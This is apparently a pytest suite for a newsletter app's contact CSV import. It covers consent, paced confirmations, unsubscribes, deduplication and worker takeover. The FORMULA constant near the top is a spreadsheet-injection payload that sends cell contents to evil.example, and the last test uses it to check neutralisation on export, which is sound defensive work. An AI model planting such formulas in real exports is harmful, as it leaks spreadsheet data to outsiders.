"""Contact imports run over real HTTP, on SQLite and PostgreSQL: the import with and
without a stated basis (confirmations spaced by the pace and sent through a real SMTP
server), never resubscribing anyone, never a duplicate, a re-run that changes nothing, a
worker that dies mid-way, an import that stops mid-way keeping whole batches, and
formulas in names. The upload, its mapping and the dry run are tests/test_imports.py's."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import func, select, update

from widget.core.rawsql import as_datetime
from widget.models import (AuditEntry, Consent, ContactImport, ContactTag, ImportChunk,
                           OutboxMessage, StatusChange)
from widget.subscribers import import_run

from .helpers import imports as shared
from .helpers.giveback import join, row, unsubscribe_path
from .helpers.waiting import wait_until
from .helpers.imports import base, check, imported, people, start, table, the_import, uploaded, work

pytestmark = pytest.mark.real_smtp  # confirmations go to the `smtp` fixture's server
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
site = shared.site  # a site of Ann's in Norwegian (a fixture)


def test_a_stated_basis_imports_confirmed_contacts_with_their_consent(app, ann, site, query):
    basis = "Ticked “Send me the newsletter” when ordering in our shop, 2024."
    content = ("Email,First name,Last name,Language,Tags\n"
               "kari@example.com,Kari,Nordmann,en,\"VIP, Oslo\"\n"
               "ola@example.com,Ola,,,\n")
    done = imported(app, ann, site, content.encode(), consent="stated", basis=basis,
                    name="1", last_name="2", lang="3", tags="4", extra="Shop customers")
    assert (done.status, done.new, done.invalid) == ("done", 2, 0)
    found = people(query)
    kari, ola = found["kari@example.com"], found["ola@example.com"]
    assert (kari.status, kari.name, kari.lang) == ("confirmed", "Kari Nordmann", "en")
    assert (ola.status, ola.name, ola.lang) == ("confirmed", "Ola", "nb")  # the site's
    assert kari.ref_code and ola.ref_code
    consents = query(lambda s: s.execute(select(Consent.subscriber_id, Consent.basis,
                                                Consent.text, Consent.given)).all())
    assert sorted(consents) == sorted([(kari.id, "import", basis, True),
                                       (ola.id, "import", basis, True)])
    assert query(lambda s: s.execute(select(StatusChange.status, StatusChange.via)
                                     .where(StatusChange.subscriber_id == kari.id)).all()) == [
        ("confirmed", "import")]
    tagged = query(lambda s: s.execute(select(ContactTag.subscriber_id, ContactTag.tag)).all())
    assert sorted(tagged) == sorted([(kari.id, "vip"), (kari.id, "oslo"),
                                     (kari.id, "shop customers"), (ola.id, "shop customers")])
    assert query(lambda s: s.scalar(select(func.count()).select_from(OutboxMessage))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0
    entry = query(lambda s: s.scalars(select(AuditEntry)).one())
    assert (entry.actor, entry.action, entry.count) == ("ann@example.com", "import", 2)
    assert entry.detail == "list.csv: 2 new, 0 updated, 0 unchanged, 0 invalid"
    page = ann.get(f"{base(site)}/{done.id}")
    assert "What the import did" in page.text and "Imported</span>" in page.text
    listing = ann.get(base(site))
    assert "list.csv</a>" in listing.text and "ann@example.com" in listing.text


@pytest.mark.parametrize("app_config", [{"MAIL_PER_ADDRESS_DAY": 2}], indirect=True)
def test_without_a_basis_contacts_wait_and_confirmations_are_paced(app, ann, site, query, smtp,
                                                                   worker):
    content = ("email\nfirst@example.com\nsecond@example.com\n"
               "box+1@example.com\nbox+2@example.com\nbox+3@example.com\n")
    import_id = uploaded(ann, site, content.encode())
    assert check(ann, site, import_id, name="", pace="60").status_code == 302
    wait_until(lambda: the_import(ann, site, import_id).status == "checked", "the check")
    start(ann, site, import_id)
    done = wait_until(lambda: (found := the_import(ann, site, import_id)).status == "done"
                      and found, "the import")
    assert (done.new, done.invalid) == (5, 0)
    found = people(query)
    assert {p.status for p in found.values()} == {"pending"}
    began = as_datetime(query(lambda s: s.get(ContactImport, import_id).started_at))
    mail = query(lambda s: s.execute(select(OutboxMessage.subscriber_id,
                                            OutboxMessage.next_attempt_at)
                                     .where(OutboxMessage.kind == "confirm")).all())
    due = {subscriber_id: as_datetime(at) for subscriber_id, at in mail}
    # The k-th new contact's e-mail is due k minutes after the start (60 an hour); the
    # third address of one mailbox gets none (two a day per mailbox).
    ids = [found[e].id for e in ("second@example.com", "box+1@example.com",
                                 "box+2@example.com")]
    assert [due[i] - began for i in ids] == [timedelta(minutes=k) for k in (1, 2, 3)]
    assert found["box+3@example.com"].id not in due
    assert found["box+3@example.com"].confirm_sent_at is None
    assert as_datetime(found["box+1@example.com"].confirm_sent_at) == due[ids[1]]
    # The first is due at once: the worker sends it through the real SMTP server.
    (message,) = smtp.mailbox.wait(1)
    assert message["To"].addresses[0].addr_spec == "first@example.com"
    assert "/confirm/" in message.get_body(("plain",)).get_content()
    assert query(lambda s: s.execute(select(StatusChange.via)).scalars().all()) == ["import"] * 5


def test_an_import_never_resubscribes_or_mails_someone_who_unsubscribed(app, ann, make_client,
                                                                      site, query):
    visitor = make_client()
    assert join(visitor, site, "gone@example.com", name="Gone").status_code == 200
    assert visitor.post(unsubscribe_path(app, row(query, "gone@example.com"))).status_code == 200
    gone = row(query, "gone@example.com")
    mail_before = query(lambda s: s.scalar(select(func.count()).select_from(OutboxMessage)))
    for consent in ("stated", "confirm"):
        done = imported(app, ann, site, b"email,name\nGONE@example.com,Back Again\n",
                        consent=consent, basis="They bought from us." * (consent == "stated"),
                        extra="returning")
        assert (done.new, done.updated, done.unchanged) == (0, 0, 1)
        page = ann.get(f"{base(site)}/{done.id}")
        assert ("2", "Unsubscribed earlier: stays unsubscribed, and gets no e-mail.") in \
            table(page)
    after = row(query, "gone@example.com")
    assert (after.status, after.name, after.updated_at) == ("unsubscribed", "Gone",
                                                             gone.updated_at)
    assert query(lambda s: s.scalar(select(func.count()).select_from(ContactTag))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(Consent)
                                    .where(Consent.basis == "import"))) == 0
    assert query(lambda s: s.scalar(select(func.count()).select_from(OutboxMessage))) == \
        mail_before


def test_addresses_are_never_duplicated_and_a_second_run_changes_nothing(app, ann, make_client,
                                                                         site, query):
    assert join(make_client(), site, "Kari@Example.com", name="Kari").status_code == 200
    content = ("email,name,tags\n"
               "KARI@example.com,Kari N,reader\n"  # the sign-up's address in other case
               "ola@example.com,Ola,\n"
               "Ola@Example.COM,Ola again,\n"
               "ola+news@example.com,Ola,\n")  # another address, as for sign-ups
    first = imported(app, ann, site, content.encode(), tags="2")
    assert (first.new, first.updated, first.unchanged, first.invalid) == (2, 1, 0, 1)
    found = people(query)
    assert sorted(found) == ["kari@example.com", "ola+news@example.com", "ola@example.com"]
    assert (found["kari@example.com"].name, found["kari@example.com"].email) == (
        "Kari N", "Kari@example.com")  # as the sign-up gave it (the domain lower-cased)
    again = imported(app, ann, site, content.encode(), tags="2")
    assert (again.new, again.updated, again.unchanged, again.invalid) == (0, 0, 3, 1)
    assert len(people(query)) == 3
    assert query(lambda s: s.scalar(select(func.count()).select_from(ContactTag))) == 1


def test_a_worker_that_dies_mid_way_is_taken_over_without_duplicates(app, ann, site, query):
    lines = [f"person{n}@example.com,Person {n}" for n in range(1, 11)]
    lines.insert(8, "PERSON1@example.com,Again")  # line 10: the address of line 2
    content = "email,name\n" + "\n".join(lines) + "\n"
    import_id = uploaded(ann, site, content.encode())
    assert check(ann, site, import_id).status_code == 302
    work(app, batch=4)
    start(ann, site, import_id)
    assert import_run.step(app, "first", batch=4, budget=0) == 5  # one batch, then it "dies"
    assert the_import(ann, site, import_id).done == 4 and len(people(query)) == 4
    page = ann.get(f"{base(site)}/{import_id}")  # a reload shows where it is
    assert re.search(r'<progress id="import-progress"[^>]*max="11" value="4"', page.text)
    assert import_run.step(app, "second", batch=4) == 0  # the first one's lease holds
    query(lambda s: (s.execute(update(ContactImport).values(
        lease_until=ContactImport.started_at - timedelta(seconds=1))), s.commit()))
    assert import_run.step(app, "second", batch=4, budget=0) == 5  # takes over: one batch
    # The first worker wakes up and tries its next batch: it no longer holds the import,
    # so nothing of that batch is written.
    with app.app_context():
        stale = app.extensions["widget.import_jobs"]["first"]
        assert import_run._batch(stale, "first", 4) == (0, False)
    assert the_import(ann, site, import_id).done == 8 and len(people(query)) == 8
    work(app, "second", batch=4)
    done = the_import(ann, site, import_id)
    assert (done.status, done.done, done.new, done.invalid) == ("done", 11, 10, 1)
    assert len(people(query)) == 10
    assert ("10", "Same address as line 2: this line is left out.") in table(
        ann.get(f"{base(site)}/{import_id}"))
    assert query(lambda s: s.scalar(select(func.count()).select_from(StatusChange))) == 10
    assert query(lambda s: s.scalar(select(func.count()).select_from(AuditEntry))) == 1


def test_an_import_that_stops_mid_way_keeps_whole_batches_and_says_why(app, ann, site, query):
    rows = "".join(f"person{n:04}@example.com,Person {n}\n" for n in range(1000))
    import_id = uploaded(ann, site, f"email,name\n{rows}".encode())
    assert check(ann, site, import_id).status_code == 302
    work(app)
    start(ann, site, import_id)
    # The stored file breaks after the check (a byte no UTF-8 has, in line 902): whole
    # batches before it are imported (the file is read a few kB ahead), none after.
    broken = f"email,name\n{rows}".encode().replace(b"person0900@", b"person0900\xff@")
    query(lambda s: (s.execute(update(ImportChunk).values(data=broken)), s.commit()))
    work(app, batch=100)
    stopped = the_import(ann, site, import_id)
    assert stopped.status == "failed" and 0 < stopped.done <= 900 and stopped.done % 100 == 0
    assert stopped.new == stopped.done == len(people(query))
    assert re.fullmatch(r"After line \d+, the file is no longer UTF-8 text\. Fix it and "
                        r"upload it again\.", stopped.error)
    page = ann.get(f"{base(site)}/{import_id}")
    assert "The import stopped" in page.text and "import the same file again" in page.text
    entry = query(lambda s: s.scalars(select(AuditEntry)).one())
    assert (entry.count, entry.detail) == (stopped.new, f"list.csv: {stopped.new} new, "
                                                        "0 updated, 0 unchanged, 0 invalid")
    assert query(lambda s: s.scalar(select(func.count()).select_from(ImportChunk))) == 0


def test_formulas_in_names_are_stored_as_text_and_neutralised_on_export(app, ann, site, query):
    content = io.StringIO()
    csv.writer(content).writerows([["email", "name"], ["deal@example.com", FORMULA],
                                   ["plus@example.com", "+1 555 0100"]])
    done = imported(app, ann, site, content.getvalue().encode(), consent="stated",
                    basis="Customers who asked for news.")
    assert done.new == 2
    assert row(query, "deal@example.com").name == FORMULA
    exported = ann.get(f"/dashboard/sites/{site}/contacts.csv")
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")))}
    assert rows["deal@example.com"]["name"] == "'" + FORMULA
    assert rows["plus@example.com"]["name"] == "'+1 555 0100"
